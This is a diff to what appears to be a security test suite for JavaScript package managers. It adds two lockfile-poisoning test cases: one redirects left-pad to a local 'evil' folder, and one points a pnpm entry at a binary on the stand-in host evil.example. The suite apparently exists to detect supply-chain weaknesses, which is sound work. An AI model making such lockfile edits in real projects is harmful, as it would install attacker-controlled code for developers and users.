@@ -235,6 +235,33 @@ def _emptied_lockfile(world: World) -> None:
     world.write(world.lockfile, heads[world.client])
 
 
+@attack("what comes from the registry locked as a folder", clients=("npm", "pnpm", "bun"))
+def _as_folder(world: World) -> None:
+    """pnpm 9 and Bun install what stands there (tried)."""
+    world.write("evil/package.json", '{"name": "left-pad", "version": "1.3.0"}\n')
+    hash_ = world.tree.named("left-pad").integrity
+    if world.client == "npm":
+        link = {"resolved": "evil", "link": True}
+        places = {"node_modules/left-pad": link, "evil": {"name": "left-pad", "version": "1.3.0"}}
+        world.json(world.lockfile, lambda data: data["packages"].update(places))
+    elif world.client == "pnpm":
+        world.edit(world.lockfile, f"{{integrity: {hash_}}}", "{directory: evil, type: directory}")
+    else:
+        entry = f'["left-pad@1.3.0", "", {{}}, "{hash_}"]'
+        world.edit(world.lockfile, entry, '["left-pad@file:evil", {}]')
+
+
+@attack("pnpm: what comes from the registry locked as a program for each platform",
+        clients=("pnpm",))  # fmt: skip
+def _as_program(world: World) -> None:
+    variant = (
+        "{type: variations, variants: [{targets: [{os: linux, cpu: x64}], resolution: {type: "
+        f"binary, url: 'https://evil.example/x.tgz', integrity: {EVIL.integrity}}}}}]}}"
+    )
+    found = f"{{integrity: {world.tree.named('left-pad').integrity}}}"
+    world.edit(world.lockfile, found, variant)
+
+
 @attack("what a package asks for, no longer locked", "lockfile-sync",
         clients=("npm", "pnpm", "yarn-classic", "yarn-berry"))  # fmt: skip
 def _not_locked(world: World) -> None:
